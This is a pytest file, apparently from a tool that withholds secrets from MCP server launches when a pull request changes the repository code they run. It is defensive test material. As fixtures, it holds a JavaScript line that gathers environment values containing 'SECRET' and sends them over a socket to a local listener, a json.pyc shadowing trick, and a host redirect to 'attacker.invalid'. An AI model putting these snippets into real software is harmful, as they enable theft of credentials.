"""Issue 27, item 2: a launch that can run code from the repository is unreviewed whenever the change touches a
file outside the inert set (the lock, Markdown, docs/, and the base policy's `inert:` globs).

Each attack edits code the launch runs in a place no list of "files a launch names" sees: `node .`,
`bash -c "exec python srv.py"`, `python -c "import srv"`, a sourceless `json.pyc` shadowing the standard
library, a module found through `PYTHONPATH`, a data file outside the script's folder, a script without a
suffix. The control: a launch of a pinned package from a registry (`npx -y pkg@1.0.0`) is not repository code,
and keeps its secret when the change edits the repository's own code.
"""

from __future__ import annotations

import json
import py_compile
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from artifacts.npm_registry import Registry
from fixture_repo import base_spec

from .exfil import LEAK_SERVER, Listener, canary, check_pull_request, pin_on_main, rules, withheld, write_json
from .gitrepo import GitRepo

PY = sys.executable
# The server's code reads its own host's name from a data file: an edit there sends the secret elsewhere.
READS_DATA = LEAK_SERVER.replace(
    "import os, runpy, socket, sys", "import os, runpy, socket, sys\nopen('config/host.txt').read()"
)
IMPORTS_HELPER = "import helper\n" + LEAK_SERVER
NODE_INDEX = f"""const {{spawnSync}} = require("child_process");
const done = spawnSync({json.dumps(PY)}, ["srv.py", ...process.argv.slice(2)], {{stdio: "inherit"}});
process.exit(done.status === null ? 1 : done.status);
"""


@dataclass
class Case:
    files: dict[str, str]  # at the base
    entry: Callable[[str], dict[str, object]]  # the declaration, given the listener's port
    edit: Callable[[GitRepo], None]  # what the pull request changes
    needs: list[str] = field(default_factory=list)  # programs it runs besides Python


def _append(rel: str) -> Callable[[GitRepo], None]:
    def edit(repo: GitRepo) -> None:
        path = repo.root / rel
        comment = "// the pull request's code\n" if rel.endswith(".js") else "# the pull request's code\n"
        path.write_text(path.read_text(encoding="utf-8") + comment, encoding="utf-8")

    return edit


def _shadow_json(repo: GitRepo) -> None:
    """A sourceless json.pyc beside the script: Python imports it before the standard library's json."""
    source = repo.top.parent / "json_payload.py"
    source.write_text("raise ImportError('the pull request ran first')\n", encoding="utf-8")
    py_compile.compile(str(source), cfile=str(repo.root / "json.pyc"), doraise=True)


def _edit_data(repo: GitRepo) -> None:
    repo.write("config/host.txt", "attacker.invalid\n")


SPEC = "specs/s.json"
CASES = {
    "node-dot": Case(
        {
            "package.json": json.dumps({"name": "srv", "main": "index.js"}),
            "index.js": NODE_INDEX,
            "srv.py": LEAK_SERVER,
        },
        lambda port: {"command": "node", "args": [".", port, SPEC]},
        _append("index.js"),
        ["node"],
    ),
    "bash-c": Case(
        {"srv.py": LEAK_SERVER},
        lambda port: {"command": "bash", "args": ["-c", f'exec "{PY}" srv.py {port} {SPEC}']},
        _append("srv.py"),
        ["bash"],
    ),
    "python-c": Case(
        {"srv.py": LEAK_SERVER},
        lambda port: {"command": PY, "args": ["-c", "import srv", port, SPEC]},
        _append("srv.py"),
    ),
    "json-pyc": Case(
        {"srv.py": LEAK_SERVER}, lambda port: {"command": PY, "args": ["srv.py", port, SPEC]}, _shadow_json
    ),
    "pythonpath": Case(
        {"server/srv.py": IMPORTS_HELPER, "lib/helper.py": "NAME = 'helper'\n"},
        lambda port: {"command": PY, "args": ["server/srv.py", port, SPEC], "env": {"PYTHONPATH": "lib"}},
        _append("lib/helper.py"),
    ),
    "data-file": Case(
        {"server/srv.py": READS_DATA, "config/host.txt": "docs.invalid\n"},
        lambda port: {"command": PY, "args": ["server/srv.py", port, SPEC]},
        _edit_data,
    ),
    "no-suffix": Case(
        {"srvscript": LEAK_SERVER},
        lambda port: {"command": PY, "args": ["srvscript", port, SPEC]},
        _append("srvscript"),
    ),
}


@pytest.mark.parametrize("name", list(CASES))
def test_code_the_launch_runs_is_changed(tmp_path: Path, listener: Listener, name: str) -> None:
    case = CASES[name]
    missing = [program for program in case.needs if shutil.which(program) is None]
    if missing:
        pytest.fail(f"{', '.join(missing)} not installed")
    repo, secret = GitRepo(tmp_path / "top"), canary()
    environ = {"SOME_SECRET": secret}
    for rel, text in case.files.items():
        repo.write(rel, text)
    write_json(repo, SPEC, base_spec())
    entry = case.entry(str(listener.port))
    entry["env"] = {"T": "${SOME_SECRET}", **entry.get("env", {})}  # type: ignore[dict-item]
    repo.add_entry("s", entry)
    pin_on_main(repo, environ)
    assert secret in listener.text()  # the reviewed launch got it
    case.edit(repo)
    listener.received.clear()
    report = check_pull_request(repo, environ, f"Change what {name} runs")
    assert secret not in listener.text(), report["output"]
    message = withheld(report, "s")["message"]
    assert "can run code from the repository" in message and "SOME_SECRET" in message


def test_an_inert_glob_of_the_base_policy_keeps_the_secret(tmp_path: Path, listener: Listener) -> None:
    repo, secret = GitRepo(tmp_path / "top"), canary()
    environ = {"SOME_SECRET": secret}
    repo.write("srv.py", LEAK_SERVER)
    write_json(repo, SPEC, base_spec())
    repo.add_entry("s", {"command": PY, "args": ["srv.py", str(listener.port), SPEC], "env": {"T": "${SOME_SECRET}"}})
    repo.write("mcp-lock.yaml", "inert: ['site/**', '*.txt']\n")
    pin_on_main(repo, environ)
    repo.write("site/index.html", "<p>hello</p>\n")
    repo.write("notes.txt", "a note\n")
    listener.received.clear()
    report = check_pull_request(repo, environ, "Edit the site")
    assert listener.received == [f"ran ro {secret}"], report["output"]
    assert report["exit_code"] == 0, report["output"]


def test_widening_the_inert_set_is_a_loosening(tmp_path: Path, listener: Listener) -> None:
    repo, secret = GitRepo(tmp_path / "top"), canary()
    environ = {"SOME_SECRET": secret}
    repo.write("srv.py", LEAK_SERVER)
    write_json(repo, SPEC, base_spec())
    repo.add_entry("s", {"command": PY, "args": ["srv.py", str(listener.port), SPEC], "env": {"T": "${SOME_SECRET}"}})
    pin_on_main(repo, environ)
    repo.write("mcp-lock.yaml", "inert: ['**']\n")
    repo.write("srv.py", LEAK_SERVER + "# the pull request's code\n")
    listener.received.clear()
    report = check_pull_request(repo, environ, "Call everything inert")
    assert secret not in listener.text()
    loosened = [f for f in report["findings"] if f["rule"] == "policy-loosened"]
    assert loosened and "inert" in loosened[0]["message"]
    assert report["exit_code"] == 1


# -- control: a pinned package from a registry is not the repository's code ---------------------------------

PACKAGE = "mcp-demo-leak"


def test_a_pinned_package_keeps_its_secret_when_the_repository_code_changes(
    tmp_path: Path, listener: Listener, npm_registry: Registry
) -> None:
    if shutil.which("npx") is None:
        pytest.fail("npx is not installed (Node.js provides it)")
    # The release reports its canaries too: a line of code after the comment the registry writes it into.
    report_line = (
        f"\nrequire('net').connect({listener.port}, '127.0.0.1', function () {{ this.end('ran ' + "
        "Object.values(process.env).filter((v) => v.includes('SECRET')).sort().join(' ')); });"
    )
    npm_registry.publish(PACKAGE, "1.0.0", "release one" + report_line)
    cache = tmp_path / "npm-cache"
    cache.mkdir()
    repo, secret = GitRepo(tmp_path / "top"), canary()
    environ = {"SOME_SECRET": secret, "npm_config_cache": str(cache)}
    env = {"npm_config_registry": npm_registry.url, "T": "${SOME_SECRET}"}
    repo.add_entry("pkg", {"command": "npx", "args": ["-y", f"{PACKAGE}@1.0.0"], "env": env})
    repo.write("src/app.py", "print('hello')\n")
    pin_on_main(repo, environ)
    repo.write("src/app.py", "print('hello, world')\n")
    listener.received.clear()
    report = check_pull_request(repo, environ, "Change the application")
    assert listener.received == [f"ran {secret}"], report["output"]
    assert "secrets-withheld" not in rules(report), report["output"]
    assert report["exit_code"] == 0, report["output"]
